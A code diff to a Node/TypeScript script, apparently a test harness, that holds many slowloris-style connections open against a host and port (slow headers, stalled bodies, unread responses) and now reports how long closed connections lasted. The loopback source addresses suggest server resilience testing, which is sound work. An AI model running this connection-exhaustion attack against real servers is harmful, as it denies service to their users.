@@ -3,11 +3,12 @@ import { setPriority } from "node:os";
 import { createInterface } from "node:readline";
 
 // Each line begins an attack or, with no connections, ends it: {"port", "host", "kind", "peers", "each"}. Whoever is closed
-// comes again at once. The answer comes when the attack stands or has ended: how many connections are open, and were.
+// comes again at once. The answer comes when the attack stands or has ended: how many connections are open, how many were
+// closed since it began, and how old those were, in seconds.
 interface Asked {
   readonly port: number;
   readonly host: string;
-  /** A head, or a body, of a byte every ten seconds; or an answer of which nothing is read. */
+  /** A head of a byte every ten seconds; a body of as much, or of nothing; or an answer of which nothing is read. */
   readonly kind: "head" | "body" | "read";
   readonly peers: number;
   readonly each: number;
@@ -19,9 +20,10 @@ const EVERY_MS = 10_000;
 let asked: Asked | undefined;
 let open = 0;
 let opened = 0;
+let ages: number[] = [];
 
 function begin(): void {
-  if (asked === undefined) return;
+  if (asked === undefined || open >= asked.peers * asked.each) return;
   const { port, host, kind, peers } = asked;
   const head = `Host: ${host}\r\n`;
   const localAddress = `127.1.0.${1 + (opened % peers)}`;
@@ -30,11 +32,14 @@ function begin(): void {
   open += 1;
   let next = 0;
   const send = (): void => void socket.write(kind === "head" ? (`GET / HTTP/1.1\r\n${head}`[next++] ?? "x") : "x");
-  const timer = kind === "read" ? undefined : setInterval(send, EVERY_MS);
+  const begun = performance.now();
+  const isSilent = kind === "read" || (kind === "body" && opened % 2 === 0);
+  const timer = isSilent ? undefined : setInterval(send, EVERY_MS);
   socket.on("error", () => undefined);
   socket.on("close", () => {
     clearInterval(timer);
     open -= 1;
+    if (asked !== undefined) ages.push((performance.now() - begun) / 1000);
     setImmediate(begin);
   });
   if (kind === "head") send();
@@ -52,6 +57,8 @@ console.log("{}");
 for await (const line of createInterface({ input: process.stdin })) {
   const next = JSON.parse(line) as Asked;
   opened = 0;
+  const closed = ages;
+  ages = [];
   if (next.each === 0) {
     asked = undefined;
     for (const socket of sockets) socket.destroy();
@@ -63,5 +70,9 @@ for await (const line of createInterface({ input: process.stdin })) {
       await tick();
     }
   }
-  console.log(JSON.stringify({ open }));
+  const [soonest, latest] = closed.reduce(
+    ([low, high], age) => [Math.min(low, age), Math.max(high, age)],
+    [Infinity, 0],
+  );
+  console.log(JSON.stringify({ open, closed: closed.length, soonest, latest }));
 }
